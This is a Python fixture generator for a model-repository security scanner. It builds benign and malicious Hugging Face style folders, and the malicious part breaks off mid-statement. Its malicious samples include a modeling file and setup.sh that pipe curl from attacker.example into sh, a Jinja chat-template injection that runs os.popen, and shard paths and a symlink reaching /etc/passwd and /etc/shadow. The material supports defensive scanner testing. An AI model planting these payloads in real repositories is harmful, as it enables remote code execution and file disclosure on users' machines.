#!/usr/bin/python3
"""make_hfrepo_fixtures.py OUTDIR - writes the fixtures of the json, text and
exe modules: whole Hugging Face style model folders and single files, into
OUTDIR/benign, OUTDIR/malicious and OUTDIR/malformed, and OUTDIR/expected.tsv
(relpath, ALLOWED|BLOCKED, threat ids or -, what it tests). A relpath may be a
folder: check.py scans it like a model folder.

Deterministic: no randomness, no clock; license texts come from Debian's
base-files (/usr/share/common-licenses). Nothing here is loaded with a model
library: every file is written byte by byte from its specification.

    /usr/bin/python3 tests/corpus/make_hfrepo_fixtures.py tests/corpus/hfrepo
    /usr/bin/python3 tests/corpus/make_hfrepo_fixtures.py --check-facts BINARY tests/corpus/hfrepo

The second form checks what check.py does not: the facts (license,
base_model, ...) the report records for model cards and LICENSE files.
"""
import json
import os
import shutil
import struct
import subprocess
import sys

MANIFEST = []
OUT = None

# The chat template of Meta-Llama-3-8B-Instruct's tokenizer_config.json.
LLAMA3_TEMPLATE = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'"
    "+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
    "{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}"
)

# A server-side template injection (CVE-2024-34359 style): walks from a
# string to the subclasses of object and runs a command.
SSTI_TEMPLATE = (
    "{% for x in ().__class__.__base__.__subclasses__() %}"
    "{% if 'warning' in x.__name__ %}"
    "{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}"
    "{% endif %}{% endfor %}"
    "{% for message in messages %}{{ message['content'] }}{% endfor %}"
)

MIT_TEXT = """MIT License

Copyright (c) 2024 Example Org

Permission is hereby granted, free of charge, to any person obtaining a copy
of this software and associated documentation files (the "Software"), to deal
in the Software without restriction, including without limitation the rights
to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
copies of the Software, and to permit persons to whom the Software is
furnished to do so, subject to the following conditions:

The above copyright notice and this permission notice shall be included in all
copies or substantial portions of the Software.

THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT.
"""

# The default policy's approved_licenses (report.md): a license outside it
# blocks the model, so other license texts are checked as facts only.
APPROVED = {"apache-2.0", "mit", "bsd-2-clause", "bsd-3-clause", "isc", "cc0-1.0", "cc-by-4.0", "unlicense"}

# Expected facts per fixture path, checked by --check-facts.
FACTS = {}


def common_license(name):
    with open(os.path.join("/usr/share/common-licenses", name), encoding="utf-8") as f:
        return f.read()


def path(rel):
    p = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    return p


def write(rel, data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(path(rel), "wb") as f:
        f.write(data)


def jdump(obj, indent=2):
    return json.dumps(obj, indent=indent, ensure_ascii=False) + "\n"


def add(rel, outcome, threats, what, facts=None):
    MANIFEST.append((rel, outcome, threats, what))
    if facts:
        FACTS[rel] = facts


# ---- building blocks ----

def safetensors(tensors, metadata=None):
    """The safetensors layout: u64 little-endian header length, a JSON header
    {name: {dtype, shape, data_offsets}} padded with spaces to 8 bytes, then
    the tensor bytes, contiguous and in order."""
    header, data = {}, b""
    if metadata:
        header["__metadata__"] = metadata
    for name, (shape, values) in tensors.items():
        raw = struct.pack("<%df" % len(values), *values)
        header[name] = {"dtype": "F32", "shape": shape, "data_offsets": [len(data), len(data) + len(raw)]}
        data += raw
    h = json.dumps(header, separators=(",", ":")).encode()
    h += b" " * (-len(h) % 8)
    return struct.pack("<Q", len(h)) + h + data


def llama_config(**extra):
    cfg = {
        "architectures": ["LlamaForCausalLM"],
        "attention_bias": False,
        "bos_token_id": 128000,
        "eos_token_id": 128009,
        "hidden_act": "silu",
        "hidden_size": 8,
        "initializer_range": 0.02,
        "intermediate_size": 16,
        "max_position_embeddings": 8192,
        "model_type": "llama",
        "num_attention_heads": 2,
        "num_hidden_layers": 1,
        "num_key_value_heads": 1,
        "rms_norm_eps": 1e-05,
        "rope_scaling": None,
        "rope_theta": 500000.0,
        "tie_word_embeddings": False,
        "torch_dtype": "bfloat16",
        "transformers_version": "4.40.0.dev0",
        "use_cache": True,
        "vocab_size": 16,
    }
    cfg.update(extra)
    return cfg


def tokenizer_config(template=LLAMA3_TEMPLATE, **extra):
    cfg = {
        "added_tokens_decoder": {
            "128000": {"content": "<|begin_of_text|>", "lstrip": False, "normalized": False, "rstrip": False,
                       "single_word": False, "special": True},
            "128009": {"content": "<|eot_id|>", "lstrip": False, "normalized": False, "rstrip": False,
                       "single_word": False, "special": True},
        },
        "bos_token": "<|begin_of_text|>",
        "chat_template": template,
        "clean_up_tokenization_spaces": True,
        "eos_token": "<|eot_id|>",
        "model_input_names": ["input_ids", "attention_mask"],
        "model_max_length": 1000000000000000019884624838656,
        "tokenizer_class": "PreTrainedTokenizerFast",
    }
    cfg.update(extra)
    return cfg


def tokenizer_json(n=16):
    vocab = {"<unk>": 0}
    for i in range(1, n):
        vocab["\u0120tok%d" % i] = i
    return {
        "version": "1.0", "truncation": None, "padding": None,
        "added_tokens": [{"id": 0, "content": "<unk>", "single_word": False, "lstrip": False, "rstrip": False,
                          "normalized": False, "special": True}],
        "normalizer": None,
        "pre_tokenizer": {"type": "ByteLevel", "add_prefix_space": False, "trim_offsets": True,
                          "use_regex": True},
        "post_processor": None,
        "decoder": {"type": "ByteLevel", "add_prefix_space": True, "trim_offsets": True, "use_regex": True},
        "model": {"type": "BPE", "dropout": None, "unk_token": None, "continuing_subword_prefix": None,
                  "end_of_word_suffix": None, "fuse_unk": False, "byte_fallback": False,
                  "ignore_merges": True, "vocab": vocab,
                  "merges": ["\u0120 t", "\u0120t o", "\u0120to k"]},
    }


def card(license_id="apache-2.0", extra=""):
    return ("---\nlicense: %s\nlibrary_name: transformers\npipeline_tag: text-generation\n%s---\n\n"
            "# Tiny Llama\n\nA one-layer test model.\n\n```python\nfrom transformers import AutoModelForCausalLM\n"
            "model = AutoModelForCausalLM.from_pretrained(\"org/tiny-llama\")\n```\n" % (license_id, extra))


def model_repo(rel, config=None, tok_config=None, index=None, readme=None, license_text=None):
    """A Llama-like model folder; every part can be replaced."""
    tensors = {
        "model.embed_tokens.weight": ([4, 2], [0.5, -0.5, 0.25, 1.0, 0.0, 2.0, -1.0, 0.125]),
        "lm_head.weight": ([2, 2], [1.0, 0.0, 0.0, 1.0]),
    }
    write(rel + "/config.json", jdump(config or llama_config()))
    write(rel + "/generation_config.json",
          jdump({"_from_model_config": True, "bos_token_id": 128000, "eos_token_id": [128001, 128009],
                 "do_sample": True, "temperature": 0.6, "top_p": 0.9, "transformers_version": "4.40.0.dev0"}))
    write(rel + "/tokenizer_config.json", jdump(tok_config or tokenizer_config()))
    write(rel + "/tokenizer.json", jdump(tokenizer_json()))
    write(rel + "/special_tokens_map.json",
          jdump({"bos_token": {"content": "<|begin_of_text|>", "lstrip": False, "normalized": False,
                               "rstrip": False, "single_word": False},
                 "eos_token": "<|eot_id|>"}))
    st = safetensors(tensors, {"format": "pt"})
    write(rel + "/model-00001-of-00001.safetensors", st)
    write(rel + "/model.safetensors.index.json", jdump(index or {
        "metadata": {"total_size": 48},
        "weight_map": {"lm_head.weight": "model-00001-of-00001.safetensors",
                       "model.embed_tokens.weight": "model-00001-of-00001.safetensors"}}))
    write(rel + "/README.md", readme if readme is not None else card())
    write(rel + "/LICENSE", license_text if license_text is not None else common_license("Apache-2.0"))


# ---- executables, hand-written headers ----

def elf(bits=64, big=False, etype=2, machine=62):
    e = ">" if big else "<"
    ident = b"\x7fELF" + bytes([2 if bits == 64 else 1, 2 if big else 1, 1, 0]) + b"\0" * 8
    if bits == 64:
        hdr = ident + struct.pack(e + "HHIQQQIHHHHHH", etype, machine, 1, 0x401000, 64, 0, 0, 64, 56, 0, 64, 0, 0)
    else:
        hdr = ident + struct.pack(e + "HHIIIIIHHHHHH", etype, machine, 1, 0x8048000, 52, 0, 0, 52, 32, 0, 40, 0, 0)
    return hdr + b"\xc3" * 16


def pe(dll=False, pe32plus=True, machine=0x8664):
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    struct.pack_into("<HHH", dos, 2, 0x90, 3, 0)
    struct.pack_into("<H", dos, 8, 4)
    struct.pack_into("<I", dos, 0x3C, 0x80)
    stub = bytes(dos) + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    stub += b"\0" * (0x80 - len(stub))
    coff = struct.pack("<HHIIIHH", machine, 0, 0, 0, 0, 0xF0 if pe32plus else 0xE0, 0x2022 if dll else 0x22)
    opt = struct.pack("<H", 0x20B if pe32plus else 0x10B) + b"\0" * 30
    return stub + b"PE\0\0" + coff + opt


def macho(bits=64, big=False, filetype=2, cpu=0x01000007):
    magic = 0xFEEDFACF if bits == 64 else 0xFEEDFACE
    e = ">" if big else "<"
    hdr = struct.pack(e + "IiiIII", magic, cpu, 3, filetype, 0, 0)
    if bits == 64:
        hdr += b"\0" * 4
    return hdr + b"\0" * 32


def fat_macho():
    a = macho(64, cpu=0x01000007)
    b = macho(64, cpu=0x0100000C)
    off_a, off_b = 4096, 8192
    hdr = struct.pack(">II", 0xCAFEBABE, 2)
    hdr += struct.pack(">iiIII", 0x01000007, 3, off_a, len(a), 12)
    hdr += struct.pack(">iiIII", 0x0100000C, 0, off_b, len(b), 14)
    data = bytearray(off_b + len(b))
    data[:len(hdr)] = hdr
    data[off_a:off_a + len(a)] = a
    data[off_b:off_b + len(b)] = b
    return bytes(data)


def java_class():
    # magic, minor 0, major 52 (Java 8): the bytes a fat Mach-O count would have
    return struct.pack(">IHHH", 0xCAFEBABE, 0, 52, 3) + b"\x07\x00\x02\x01\x00\x01A" + b"\0" * 16


def zip_with(name, payload, base=0):
    """A stored zip with one member (enough for a llamafile's appended
    weights); `base` is where the zip starts in the file, since a llamafile's
    zip offsets count from the start of the whole file."""
    import zlib
    n = name.encode()
    crc = zlib.crc32(payload)
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, crc, len(payload), len(payload), len(n), 0) + n
    cd = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0, crc, len(payload), len(payload), len(n),
                     0, 0, 0, 0, 0, 0) + n
    cd = cd[:42] + struct.pack("<I", base) + cd[46:]
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(cd), base + len(local) + len(payload), 0)
    return local + payload + cd + end


def llamafile():
    """An APE header (a DOS header that a shell also runs: MZqFpD='), a shell
    body, an ELF image, then the GGUF weights in a zip, as llamafile lays
    them out."""
    head = bytearray(b"MZqFpD='\n\n\x00\x00\x10\x00\xf8\x00\x00\x00\x00\x00\x00\x00")
    head += b"\0" * (64 - len(head))
    struct.pack_into("<I", head, 0x3C, 0)
    body = b"'\n#'\"\nexec 7<> \"$(command -v \"$0\")\" || exit 121\nexit 1\n"
    gguf = b"GGUF" + struct.pack("<IQQ", 3, 0, 0)
    exe = bytes(head) + body + b"\0" * 64 + elf()
    return exe + zip_with("tiny.gguf", gguf, len(exe))


# ---- benign ----

def benign():
    model_repo("benign/llama-repo")
    add("benign/llama-repo", "ALLOWED", "-",
        "a Llama-like model folder: config, generation config, tokenizer config with the Llama 3 chat template, "
        "tokenizer.json, special tokens, safetensors shard and index, model card (apache-2.0), Apache LICENSE",
        {"README.md": {"license": "apache-2.0", "library_name": "transformers", "pipeline_tag": "text-generation"},
         "LICENSE": {"license": "apache-2.0"},
         "config.json": {"model_type": "llama"}})

    d = "benign/diffusers-repo"
    write(d + "/model_index.json", jdump({
        "_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.27.0",
        "feature_extractor": ["transformers", "CLIPImageProcessor"],
        "requires_safety_checker": True,
        "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"],
        "scheduler": ["diffusers", "PNDMScheduler"],
        "text_encoder": ["transformers", "CLIPTextModel"],
        "tokenizer": ["transformers", "CLIPTokenizer"],
        "unet": ["diffusers", "UNet2DConditionModel"],
        "vae": ["diffusers", "AutoencoderKL"],
        "image_encoder": [None, None]}))
    write(d + "/unet/config.json", jdump({
        "_class_name": "UNet2DConditionModel", "_diffusers_version": "0.27.0",
        "block_out_channels": [32, 64], "down_block_types": ["CrossAttnDownBlock2D", "DownBlock2D"],
        "up_block_types": ["UpBlock2D", "CrossAttnUpBlock2D"], "in_channels": 4, "sample_size": 32}))
    write(d + "/scheduler/scheduler_config.json", jdump({
        "_class_name": "PNDMScheduler", "_diffusers_version": "0.27.0", "beta_end": 0.012,
        "beta_schedule": "scaled_linear", "beta_start": 0.00085, "num_train_timesteps": 1000}))
    write(d + "/README.md", "---\nlicense: mit\ntags:\n- stable-diffusion\n---\n\n# Tiny SD\n")
    add(d, "ALLOWED", "-", "a diffusers pipeline whose components come from diffusers, transformers and a "
        "diffusers pipeline module (stable_diffusion); component configs with two-string lists",
        {"README.md": {"license": "mit"}})

    d = "benign/sentence-transformers-repo"
    write(d + "/modules.json", jdump([
        {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
        {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
        {"idx": 2, "name": "2", "path": "2_Normalize", "type": "sentence_transformers.models.Normalize"}]))
    write(d + "/config_sentence_transformers.json",
          jdump({"__version__": {"sentence_transformers": "2.0.0", "transformers": "4.6.1"}}))
    write(d + "/1_Pooling/config.json", jdump({"word_embedding_dimension": 8, "pooling_mode_mean_tokens": True}))
    write(d + "/config.json", jdump({"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 8}))
    write(d + "/vocab.txt", "[PAD]\n[UNK]\n[CLS]\n[SEP]\nimport\nclass\nfrom\ndef\nthe\n##s\n")
    add(d, "ALLOWED", "-", "a sentence-transformers folder: modules.json with the library's own module types, "
        "a BERT vocab.txt whose lines include Python keywords")

    d = "benign/peft-adapter"
    write(d + "/adapter_config.json", jdump({
        "alpha_pattern": {}, "auto_mapping": None, "base_model_name_or_path": "meta-llama/Meta-Llama-3-8B",
        "bias": "none", "fan_in_fan_out": False, "inference_mode": True, "lora_alpha": 16, "lora_dropout": 0.05,
        "peft_type": "LORA", "r": 8, "target_modules": ["q_proj", "v_proj"], "task_type": "CAUSAL_LM"}))
    write(d + "/README.md", "---\nbase_model: meta-llama/Meta-Llama-3-8B\nlibrary_name: peft\nlicense: apache-2.0\n"
          "---\n\n# LoRA adapter\n")
    add(d, "ALLOWED", "-", "a peft LoRA adapter config naming its base model", {
        "adapter_config.json": {"base_model": "meta-llama/Meta-Llama-3-8B"},
        "README.md": {"base_model": "meta-llama/Meta-Llama-3-8B", "library_name": "peft", "license": "apache-2.0"}})

    # JSON that Python's json reads and jansson would not
    write("benign/config_python_json.json",
          '{"model_type": "gpt2", "a": NaN, "b": Infinity, "c": -Infinity, "seed": 123456789012345678901234567890,'
          ' "nul": "x\\u0000y", "lone": "\\ud800", "pair": "\\ud83d\\ude00", "utf8": "\u00e9\u4e2d\U0001F600",'
          ' "e": 1.5e-10, "neg": -0.0, "list": [], "obj": {}, "nested": {"a": {"b": [1, {"c": null}]}}}\n')
    add("benign/config_python_json.json", "ALLOWED", "-",
        "NaN, Infinity, -Infinity, a 30-digit integer, \\u0000, a lone surrogate escape: all read by Python's json")

    write("benign/config_escaped_distinct_keys.json", '{"a": 1, "\\u0041": 2, "a\\u0000": 3, "b": {"a": 1}}\n')
    add("benign/config_escaped_distinct_keys.json", "ALLOWED", "-",
        "keys that differ once decoded (a, A, a\\0) and the same key in different objects are not duplicates")

    write("benign/tokenizer_config_named_templates.json", jdump(tokenizer_config(
        template=[{"name": "default", "template": LLAMA3_TEMPLATE},
                  {"name": "tool_use", "template": "{% for m in messages %}{{ m['content'] }}{% endfor %}"}])))
    add("benign/tokenizer_config_named_templates.json", "ALLOWED", "-",
        "chat_template as a list of named templates")

    write("benign/chat_template.json", jdump({"chat_template": LLAMA3_TEMPLATE}))
    add("benign/chat_template.json", "ALLOWED", "-", "a processor's chat_template.json")

    write("benign/chat_template.jinja", LLAMA3_TEMPLATE)
    add("benign/chat_template.jinja", "ALLOWED", "-", "a chat template saved as a .jinja text file")

    big = tokenizer_json(12000)
    write("benign/tokenizer_large.json", jdump(big))
    add("benign/tokenizer_large.json", "ALLOWED", "-",
        "a tokenizer.json larger than 256 KiB: validated, its vocabulary never built")

    wm = {"model.layers.%d.mlp.weight_%d" % (i // 8, i): "model-%05d-of-00004.safetensors" % (i % 4 + 1)
          for i in range(3700)}
    write("benign/index_large.safetensors.index.json", jdump({"metadata": {"total_size": 10 ** 10}, "weight_map": wm}))
    add("benign/index_large.safetensors.index.json", "ALLOWED", "-",
        "a sharded index larger than 256 KiB with plain shard names")

    write("benign/keras_config.json", jdump({
        "module": "keras", "class_name": "Functional", "registered_name": None,
        "config": {"name": "m", "layers": [{"module": "keras.layers", "class_name": "Dense",
                                            "config": {"name": "d", "units": 1}, "registered_name": None}]}}))
    add("benign/keras_config.json", "ALLOWED", "-", "a bare Keras config goes to the Keras config analysis")

    write("benign/vocab.json", jdump({"<|endoftext|>": 0, "hello": 1, "\u0120world": 2, "import": 3}))
    add("benign/vocab.json", "ALLOWED", "-", "a plain JSON object (GPT-2 vocab)")

    write("benign/data.jsonl", '{"text": "a"}\n{"text": "b", "n": 2}\n\n[1, 2]\n')
    add("benign/data.jsonl", "ALLOWED", "-", "JSON Lines: one value per line")

    write("benign/modeling_tiny.py", '''# coding=utf-8
# Copyright 2024 Example. Licensed under the Apache License, Version 2.0.
"""Tiny model. Never call os.system(cmd) or subprocess.run here.

>>> exec(base64.b64decode(x))  # an example in a docstring is not code
"""
import math
import re
from typing import Optional

import torch
from torch import nn

PATTERN = re.compile(r"layers\\.(\\d+)")
NOTE = "eval(x) and os.popen('id') inside a string are text"
requests = []  # a list named like a module
socket = None


class TinyConfig:
    model_type = "tiny"

    def __init__(self, hidden_size=8, compile=False, **kwargs):
        self.hidden_size = hidden_size
        self.compile = compile


class TinyModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
        if config.compile:
            self.proj = torch.compile(self.proj)

    def eval(self):  # defines a method called eval
        return super().eval()

    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None):
        requests.append(x.shape)
        scale = 1.0 / math.sqrt(x.shape[-1])
        label = f"scale={scale:.3f} {x.shape!r}"
        return self.proj(x) * scale


if __name__ == "__main__":
    model = TinyModel(TinyConfig())
    model.eval()
''')
    add("benign/modeling_tiny.py", "ALLOWED", "-",
        "a modeling file: torch imports, model.eval(), torch.compile, re.compile, os.system only in docstrings, "
        "comments and strings, a variable named requests")

    write("benign/README_no_front_matter.md", "# A model\n\nUsage:\n\n```python\nimport os\nos.system('nvidia-smi')\n"
          "```\n\nSee [the paper](https://example.org).\n")
    add("benign/README_no_front_matter.md", "ALLOWED", "-",
        "Markdown without front matter: code fences are documentation, not Python")

    for name, text, lic in [("LICENSE-MIT", MIT_TEXT, "mit"),
                            ("LICENSE-BSD", common_license("BSD"), "bsd-3-clause"),
                            ("LICENSE-GPL-2", common_license("GPL-2"), "gpl-2.0"),
                            ("LICENSE-GPL-3", common_license("GPL-3"), "gpl-3.0"),
                            ("LICENSE-LGPL-2.1", common_license("LGPL-2.1"), "lgpl-2.1"),
                            ("LICENSE-LGPL-3", common_license("LGPL-3"), "lgpl-3.0"),
                            ("LICENSE-MPL-2.0", common_license("MPL-2.0"), "mpl-2.0"),
                            ("LICENSE-CC0", common_license("CC0-1.0"), "cc0-1.0"),
                            ("LICENSE-llama3", "META LLAMA 3 COMMUNITY LICENSE AGREEMENT\nMeta Llama 3 Version "
                             "Release Date: April 18, 2024\n\n\u201cAgreement\u201d means the terms...\n", "llama3"),
                            ("LICENSE-gemma", "Gemma Terms of Use\n\nLast modified: February 21, 2024\n", "gemma")]:
        write("benign/licenses/" + name, text)
        if lic in APPROVED:
            add("benign/licenses/" + name, "ALLOWED", "-", "license text recognised as %s" % lic,
                {"": {"license": lic}})
        else:  # the default policy blocks licenses it does not approve: facts only
            FACTS["benign/licenses/" + name] = {"": {"license": lic}}

    write("benign/README_license_list.md", "---\nlicense:\n- MIT\n- apache-2.0\nbase_model:\n- org/a\n- org/b\n"
          "license_name: my-license\n---\n\n# Merge\n")
    add("benign/README_license_list.md", "ALLOWED", "-", "model card lists: the first item is recorded",
        {"": {"license": "mit", "base_model": "org/a", "license_name": "my-license"}})

    write("benign/README_spellings.md", "---\nlicense: Apache License 2.0\n---\n# x\n")
    add("benign/README_spellings.md", "ALLOWED", "-", "a free-form license spelling is normalised",
        {"": {"license": "apache-2.0"}})

    write("benign/notes.txt", "Training notes\n==============\n\nclass imbalance was handled by reweighting.\n"
          "from the start we used 8 GPUs.\nimport the weights with the usual loader.\n")
    add("benign/notes.txt", "ALLOWED", "-", "prose whose lines start with Python keywords is not Python")
    write("benign/mz_text.txt", "MZ is the name of the test set.\n")
    add("benign/mz_text.txt", "ALLOWED", "-", "text starting with MZ is not a DOS executable")
    write("benign/python_dict.txt", "{'learning_rate': 0.0001, 'epochs': 3}\n")
    add("benign/python_dict.txt", "ALLOWED", "-", "a Python dict printed to a text file is not meant as JSON")
    write("benign/pipeline.yaml", "try: 3\nsteps:\n  - name: prepare\n    script: |\n      import os\n"
          "      os.system('make data')\n")
    add("benign/pipeline.yaml", "ALLOWED", "-",
        "YAML with Python in an indented block scalar stays YAML (the text module claims only column-0 Python)")
    write("benign/firework.pp", "{\n}\n//{$mode objfpc}\n{$INLINE OFF}\nprogram firework;\nbegin\nend.\n")
    add("benign/firework.pp", "ALLOWED", "-", "Pascal starting with an empty `{ }` comment is not JSON")
    write("benign/CHANGELOG.txt", "Version 2.0\n\n- added the {% trans %} tag\n- clearer error messages\n"
          "- {% extends %} works in sandboxed templates\n")
    add("benign/CHANGELOG.txt", "ALLOWED", "-", "text that mentions Jinja tags is not a chat template")
    write("benign/setup.cfg", "[metadata]\nname = tiny\n")
    add("benign/setup.cfg", "ALLOWED", "-", "an INI file starting with [ is not JSON")
    write("benign/empty.txt", "")
    add("benign/empty.txt", "ALLOWED", "-", "an empty file")
    write("benign/Tiny.class", java_class())
    add("benign/Tiny.class", "ALLOWED", "-", "a Java class file shares 0xCAFEBABE with fat Mach-O: not an executable")
    write("benign/merges.txt", "#version: 0.2\n\u0120 t\n\u0120 a\nh e\n")
    add("benign/merges.txt", "ALLOWED", "-", "BPE merges")


# ---- malicious ----

EVIL_MODELING = '''import os
import torch
from torch import nn


class EvilModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        os.system("curl -s https://attacker.example/x | sh")
'''


def malicious():
    d = "malicious/custom-code-repo"
    model_repo(d, config=llama_config(auto_map={"AutoConfig": "configuration_evil.EvilConfig",
                                               "AutoModelForCausalLM": "modeling_evil.EvilModel"}))
    write(d + "/modeling_evil.py", EVIL_MODELING)
    write(d + "/configuration_evil.py", "from transformers import PretrainedConfig\n\n\n"
          "class EvilConfig(PretrainedConfig):\n    model_type = 'evil'\n")
    add(d, "BLOCKED", "MG-HF-100,MG-HF-102",
        "auto_map loads modeling_evil.py from the repository, which calls os.system")

    d = "malicious/cross-repo"
    model_repo(d, config=llama_config(auto_map={"AutoModelForCausalLM": "attacker/payload--modeling_x.XModel"}))
    add(d, "BLOCKED", "MG-HF-101", "auto_map pulls code from another repository (org/repo--module.Class)")

    d = "malicious/ssti-repo"
    model_repo(d, tok_config=tokenizer_config(template=SSTI_TEMPLATE))
    add(d, "BLOCKED", "MG-HF-103",
        "tokenizer_config chat template reaches __subclasses__ (needs the Jinja analyser of util/jinja.c)")

    d = "malicious/index-traversal"
    model_repo(d, index={"metadata": {"total_size": 48},
                         "weight_map": {"lm_head.weight": "../../../../etc/passwd",
                                        "model.embed_tokens.weight": "model-00001-of-00001.safetensors"}})
    add(d, "BLOCKED", "MG-SFT-403", "the sharded index sends a tensor to ../../../../etc/passwd")

    d = "malicious/exe-repo"
    model_repo(d)
    write(d + "/bin/convert", elf())
    write(d + "/setup.sh", "#!/bin/bash\ncurl https://attacker.example/x | sh\n")
    os.chmod(path(d + "/setup.sh"), 0o755)
    add(d, "BLOCKED", "MG-EXE-300", "an ELF binary and a shell script shipped in the model folder")

    d = "malicious/symlink-repo"
    model_repo(d)
    link = path(d + "/extra_weights.bin")
    if os.path.lexists(link):
        os.remove(link)
    os.symlink("/etc/passwd", link)
    add(d, "BLOCKED", "MG-HF-401", "a symbolic link to /etc/passwd inside the model folder")

    # config shapes that pull code
    write("malicious/tokenizer_config_legacy_auto_map.json",
          jdump(tokenizer_config(auto_map=["tokenization_evil.EvilTokenizer", None])))
    add("malicious/tokenizer_config_legacy_auto_map.json", "BLOCKED", "MG-HF-100",
        "the legacy list form of a tokenizer auto_map")
    write("malicious/tokenizer_config_fast_cross.json",
          jdump(tokenizer_config(auto_map={"AutoTokenizer": [None, "attacker/tok--tokenization_x.XTokenizerFast"]})))
    add("malicious/tokenizer_config_fast_cross.json", "BLOCKED", "MG-HF-101",
        "a fast tokenizer class from another repository")
    write("malicious/custom_pipelines.json", jdump(llama_config(custom_pipelines={
        "text-generation": {"impl": "pipeline_evil.EvilPipeline", "pt": ["AutoModelForCausalLM"], "tf": [],
                            "type": "text"}})))
    add("malicious/custom_pipelines.json", "BLOCKED", "MG-HF-100", "custom_pipelines names a pipeline module")
    write("malicious/model_index_custom_component.json", jdump({
        "_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.27.0",
        "unet": ["my_unet", "MyUNet"], "vae": ["diffusers", "AutoencoderKL"]}))
    add("malicious/model_index_custom_component.json", "BLOCKED", "MG-HF-100",
        "a diffusers component from a module that is not diffusers' (unet/my_unet.py)")
    write("malicious/model_index_custom_pipeline.json", jdump({
        "_class_name": ["pipeline_evil", "EvilPipeline"], "_diffusers_version": "0.27.0",
        "unet": ["diffusers", "UNet2DConditionModel"]}))
    add("malicious/model_index_custom_pipeline.json", "BLOCKED", "MG-HF-100",
        "_class_name as [module, class]: a custom diffusers pipeline")
    write("malicious/modules_custom.json", jdump([
        {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
        {"idx": 1, "name": "1", "path": "1_Evil", "type": "evil_module.EvilLayer"}]))
    add("malicious/modules_custom.json", "BLOCKED", "MG-HF-100",
        "a sentence-transformers module type outside the library")
    write("malicious/adapter_config_remote.json", jdump({
        "auto_mapping": {"base_model_class": "EvilForCausalLM",
                         "parent_library": "transformers_modules.attacker.evil.modeling_evil"},
        "base_model_name_or_path": "attacker/evil", "peft_type": "LORA", "r": 8}))
    add("malicious/adapter_config_remote.json", "BLOCKED", "MG-HF-100",
        "a peft adapter whose auto_mapping imports remote code of its base model")
    write("malicious/trust_remote_code.json", jdump({"model_type": "x", "trust_remote_code": True}))
    add("malicious/trust_remote_code.json", "BLOCKED", "MG-HF-100", "a config that sets trust_remote_code")
    for name, shard in [("index_absolute", "/etc/shadow"), ("index_backslash", "..\\..\\windows\\win.ini"),
                        ("index_drive", "C:\\Windows\\win.ini"), ("index_inner_dotdot", "shards/../../../x")]:
        write("malicious/%s.safetensors.index.json" % name,
              jdump({"metadata": {"total_size": 8}, "weight_map": {"w": shard}}))
        add("malicious/%s.safetensors.index.json" % name, "BLOCKED", "MG-SFT-403", "shard name %s" % shard)

    wm = {"model.layers.%d.weight_%d" % (i // 8, i): "model-%05d-of-00004.safetensors" % (i % 4 + 1)
          for i in range(3700)}
    wm["zz.last"] = "../outside.safetensors"
    write("malicious/index_large_traversal.safetensors.index.json", jdump({"metadata": {}, "weight_map": wm}))
    add("malicious/index_large_traversal.safetensors.index.json", "BLOCKED", "MG-SFT-403",
        "a traversal at the end of an index larger than 256 KiB")
    big = tokenizer_config(added_tokens_decoder={str(i): {"content": "<|reserved_%d|>" % i, "special": True}
                                                 for i in range(4000)})
    big["auto_map"] = {"AutoTokenizer": ["attacker/x--tokenization.T", None]}
    write("malicious/tokenizer_config_large_cross.json", jdump(big))
    add("malicious/tokenizer_config_large_cross.json", "BLOCKED", "MG-HF-101",
        "a cross-repository auto_map after 256 KiB of added tokens")
    big = tokenizer_json(12000)
    big["auto_map"] = {"AutoModel": "modeling_x.X"}
    write("malicious/tokenizer_large_auto_map.json", jdump(big))
    add("malicious/tokenizer_large_auto_map.json", "BLOCKED", "MG-HF-100",
        "auto_map appended to a large tokenizer.json is still read")
    write("malicious/chat_template_ssti.json", jdump({"chat_template": SSTI_TEMPLATE}))
    add("malicious/chat_template_ssti.json", "BLOCKED", "MG-HF-103",
        "chat_template.json with template injection (needs the Jinja analyser)")
    write("malicious/chat_template_ssti.jinja", SSTI_TEMPLATE)
    add("malicious/chat_template_ssti.jinja", "BLOCKED", "MG-HF-103",
        "a .jinja chat template file with template injection (needs the Jinja analyser)")
    write("malicious/chat_template_text_first.jinja", "<|system|>You are helpful.\n" + SSTI_TEMPLATE)
    add("malicious/chat_template_text_first.jinja", "BLOCKED", "MG-HF-103",
        "a template file that starts with text before its first tag")
    write("malicious/tokenizer_config_named_ssti.json", jdump(tokenizer_config(
        template=[{"name": "default", "template": LLAMA3_TEMPLATE}, {"name": "rag", "template": SSTI_TEMPLATE}])))
    add("malicious/tokenizer_config_named_ssti.json", "BLOCKED", "MG-HF-103",
        "template injection in the second named template (needs the Jinja analyser)")

    write("malicious/keras_config_lambda.json", jdump({
